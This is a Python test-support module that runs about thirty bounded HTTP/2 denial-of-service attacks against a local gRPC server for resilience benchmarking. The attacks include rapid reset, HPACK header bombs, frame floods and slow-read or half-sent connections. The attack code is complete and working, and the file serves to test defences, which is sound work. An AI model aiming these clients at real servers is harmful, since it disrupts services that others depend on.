"""Clients that mean harm, one kind each, bounded in count and time; against loopback only.

    python -m support.attacks NAME PORT SECONDS

runs one in a process of its own, at low priority, and prints what came of it as one line of JSON.
Each goes on until its time is over: a connection that the server ends is opened anew, at most
`CONNECTIONS_MAX` in all.
"""

import json
import os
import struct
import sys
import time

from support import hpack
from support.http2 import (
    ACK, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,
    SETTINGS_INITIAL_WINDOW_SIZE, WINDOW_UPDATE, call_headers, frame, message,
)
from support.peer import Ended, Peer

CONNECTIONS_MAX = 2_000
# Connections that an attack holds open at a time.
PEERS = 50
PRIORITY, CONTINUATION, UNKNOWN = 2, 9, 0xF0
GET = "/larder.v1.Cache/Get"
SET = "/larder.v1.Cache/Set"
WATCH = "/grpc.health.v1.Health/Watch"
# A large value that slow readers ask for; whoever starts the attack has stored it.
LARGE_KEY = "attacks/large"
MIB = 1024 * 1024

HEAD = hpack.encode(call_headers(SET))
GET_LARGE = message(b"\x0a" + bytes([len(LARGE_KEY)]) + LARGE_KEY.encode())


class Result:
    """What one attack did, and what the server did about it."""

    def __init__(self):
        self.sent = 0
        self.ended = 0
        self.goaways = {}

    def note_end(self, peer):
        self.ended += 1
        if peer and peer.goaway is not None:
            self.goaways[peer.goaway] = self.goaways.get(peer.goaway, 0) + 1

    def json(self):
        return {"opened": Peer.opened, "sent": self.sent, "ended": self.ended,
                "goaways": self.goaways}


def flood(make_batch, start=lambda peer: None, pause=0.0):
    """An attack of one connection at a time that sends batch after batch until it is ended.

    `make_batch(peer)` gives the bytes and how many units of the attack they are.
    """

    def attack(port, ends_at):
        result = Result()
        while time.monotonic() < ends_at and Peer.opened < CONNECTIONS_MAX:
            peer = None
            try:
                peer = Peer(port)
                start(peer)
                while time.monotonic() < ends_at:
                    data, count = make_batch(peer)
                    peer.send(data)
                    result.sent += count
                    peer.listen()
                    time.sleep(pause)
            except Ended:
                result.note_end(peer)
                # A real one would come back at once; this one leaves the machine some room.
                time.sleep(0.02)
            finally:
                if peer:
                    peer.close()
        return result

    return attack


def hold(open_peer, step=None, every=0.05, peers_max=PEERS):
    """An attack of many connections that are kept open, each fed by `step` now and then."""

    def attack(port, ends_at):
        result = Result()
        peers = []
        try:
            while time.monotonic() < ends_at:
                while len(peers) < peers_max and Peer.opened < CONNECTIONS_MAX:
                    try:
                        peers.append(open_peer(port))
                        result.sent += 1
                    except Ended:
                        result.note_end(None)
                        break
                for peer in list(peers):
                    try:
                        if step:
                            step(peer)
                        if open_peer not in UNREAD:
                            peer.listen()
                        if peer.is_over():
                            raise Ended
                    except Ended:
                        result.note_end(peer)
                        peers.remove(peer)
                        peer.close()
                time.sleep(every)
        finally:
            for peer in peers:
                # Those that read nothing learn only now that they were ended.
                if open_peer in UNREAD and peer.is_ended():
                    result.note_end(peer)
                peer.close()
        return result

    return attack


def headers(stream, fields, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, hpack.encode(fields))


# Floods of frames.


def rapid_reset(peer):
    """CVE-2023-44487: each call is reset as soon as it is made."""
    batch = b""
    for _ in range(100):
        stream = peer.stream()
        batch += frame(HEADERS, END_HEADERS, stream, HEAD)
        batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    return batch, 100


def made_reset(peer):
    """CVE-2025-8671: each call is followed by what makes the server reset it."""
    batch = b""
    for _ in range(100):
        stream = peer.stream()
        batch += frame(HEADERS, END_HEADERS, stream, HEAD)
        # A window above 2^31 - 1 is a stream error (RFC 9113, section 6.9.1).
        batch += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1))
    return batch, 100


def malformed_headers(peer):
    """CVE-2019-9514: requests that the server must answer with a reset."""
    block = hpack.encode(call_headers(SET) + [("Upper", "case")])
    batch = b"".join(frame(HEADERS, END_HEADERS, peer.stream(), block) for _ in range(100))
    return batch, 100


def too_many_streams(peer):
    """More streams than SETTINGS_MAX_CONCURRENT_STREAMS, none of which ends."""
    batch = b"".join(frame(HEADERS, END_HEADERS, peer.stream(), HEAD) for _ in range(500))
    return batch, 500


def of(piece, count=500):
    """Always the same frames."""
    batch = piece * count
    return lambda peer: (batch, count)


def open_call(peer):
    peer.send(frame(HEADERS, END_HEADERS, peer.stream(), HEAD))


def open_block(peer):
    """A header block that never ends."""
    peer.send(frame(HEADERS, 0, peer.stream(), HEAD))


def header_bomb(peer):
    """CVE-2016-6581: one large field in the table, and then a reference for each byte sent."""
    # Literal with incremental indexing, new name: 3,000 bytes of value under "x".
    value = b"v" * 3_000
    entry = b"\x40\x01x\x7f" + bytes([(3_000 - 127) & 0x7F | 0x80, (3_000 - 127) >> 7]) + value
    block = HEAD + entry + b"\xbe" * 10_000
    return frame(HEADERS, END_HEADERS | END_STREAM, peer.stream(), block), 1


def header_count_bomb(peer):
    """CVE-2026-49975: thousands of tiny fields."""
    block = HEAD + b"\x00\x01a\x00" * 4_000
    return frame(HEADERS, END_HEADERS | END_STREAM, peer.stream(), block), 1


def huge_messages(peer):
    """Messages that claim 4 GiB."""
    stream = peer.stream()
    call = frame(HEADERS, END_HEADERS, stream, HEAD)
    return call + frame(DATA, 0, stream, b"\x00\xff\xff\xff\xff" + b"x" * 1_000), 1


def refused_calls(peer):
    batch = b""
    for _ in range(100):
        stream = peer.stream()
        batch += headers(stream, call_headers("/no.Such/Method"))
        batch += frame(DATA, END_STREAM, stream, message(b"x" * 100))
    return batch, 100


def watches(peer):
    """Streaming calls by the hundred: each is a task of the server."""
    batch = b""
    for _ in range(50):
        stream = peer.stream()
        batch += headers(stream, call_headers(WATCH))
        batch += frame(DATA, END_STREAM, stream, message(b""))
        batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    return batch, 50


# Peers that hold on to what they have.


def silent(port):
    return Peer(port, hello=b"")


def half_preface(port):
    return Peer(port, hello=PREFACE[:10])


def half_frame_header(port):
    return Peer(port, hello=PREFACE + frame(SETTINGS, 0, 0) + b"\x00\x00\x10\x01")


def half_header_block(port):
    hello = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
    return Peer(port, hello=hello + frame(HEADERS, 0, 1, HEAD))


def half_body(port):
    """A hundred calls of a connection with most of a message each."""
    peer = Peer(port)
    peer.send(frame(SETTINGS, ACK, 0))
    for _ in range(100):
        stream = peer.stream()
        peer.send(frame(HEADERS, END_HEADERS, stream, HEAD))
        peer.send(frame(DATA, 0, stream, message(b"x" * 8_000, declared=3 * MIB)))
    return peer


def filling_buffers(port):
    """As half_body, and as many bytes as the windows allow."""
    peer = Peer(port)
    peer.send(frame(SETTINGS, ACK, 0))
    piece = b"x" * 16_000
    for _ in range(20):
        stream = peer.stream()
        peer.send(frame(HEADERS, END_HEADERS, stream, HEAD))
        peer.send(frame(DATA, 0, stream, message(piece, declared=3 * MIB)))
        for _ in range(60):
            peer.send(frame(DATA, 0, stream, piece))
    return peer


def idle(port):
    peer = Peer(port)
    peer.send(frame(SETTINGS, ACK, 0))
    return peer


def drip(peer):
    """The rest of whatever was begun, a byte at a time."""
    peer.send(b"\x00")


def reads_nothing(port):
    """Asks for large values over a socket that it never reads."""
    window = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 2**31 - 1)
    hello = PREFACE + frame(SETTINGS, 0, 0, window) + frame(SETTINGS, ACK, 0)
    hello += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30))
    peer = Peer(port, hello=hello, receive_buffer=4_096)
    for _ in range(50):
        stream = peer.stream()
        peer.send(headers(stream, call_headers(GET)))
        peer.send(frame(DATA, END_STREAM, stream, GET_LARGE))
    return peer


def shut_window(port):
    """Asks for large values, reads the socket, and never opens a window."""
    window = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0)
    peer = Peer(port, hello=PREFACE + frame(SETTINGS, 0, 0, window) + frame(SETTINGS, ACK, 0))
    for _ in range(50):
        stream = peer.stream()
        peer.send(headers(stream, call_headers(GET)))
        peer.send(frame(DATA, END_STREAM, stream, GET_LARGE))
    return peer


def unread_acks(port):
    """CVE-2019-9512: PINGs, whose acknowledgements it never reads."""
    peer = Peer(port, receive_buffer=4_096)
    peer.send(frame(SETTINGS, ACK, 0))
    return peer


def ping_on(peer):
    try:
        peer.socket.send(frame(PING, 0, 0, b"12345678") * 500)
    except BlockingIOError:
        return
    except OSError as error:
        raise Ended from error


# These peers must not read, or they would not be what they are.
UNREAD = {reads_nothing, unread_acks}

WINDOW_1 = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))

ATTACKS = {
    "rapid-reset": flood(rapid_reset),
    "made-reset": flood(made_reset),
    "malformed-headers": flood(malformed_headers),
    "too-many-streams": flood(too_many_streams),
    "ping-flood": flood(of(frame(PING, 0, 0, b"12345678"))),
    "settings-flood": flood(of(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)))),
    "settings-entries": flood(of(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 100), 50)),
    "priority-flood": flood(of(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16)))),
    "unknown-flood": flood(of(frame(UNKNOWN, 0, 0, b"?"))),
    "window-flood": flood(of(WINDOW_1)),
    "empty-data-flood": flood(of(frame(DATA, 0, 1)), start=open_call),
    "continuation-flood": flood(of(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b")), open_block),
    "header-bomb": flood(header_bomb),
    "header-count-bomb": flood(header_count_bomb),
    "huge-messages": flood(huge_messages),
    "refused-calls": flood(refused_calls),
    "watches": flood(watches),
    "connections": hold(silent, every=0.01, peers_max=500),
    "half-preface": hold(half_preface),
    "half-frame-header": hold(half_frame_header),
    "half-header-block": hold(half_header_block),
    "half-body": hold(half_body),
    "slow-body": hold(half_body, drip),
    "filling-buffers": hold(filling_buffers),
    "idle": hold(idle),
    "reads-nothing": hold(reads_nothing),
    "shut-window": hold(shut_window),
    "unread-acks": hold(unread_acks, ping_on),
}


def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    # Whoever shares a core with it, as the good client of `make bench-attacks` does, goes first: at
    # nice 19 that client waited for its core and not for the node.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    result = ATTACKS[name](port, time.monotonic() + seconds)
    print(json.dumps(result.json()))


if __name__ == "__main__":
    main()
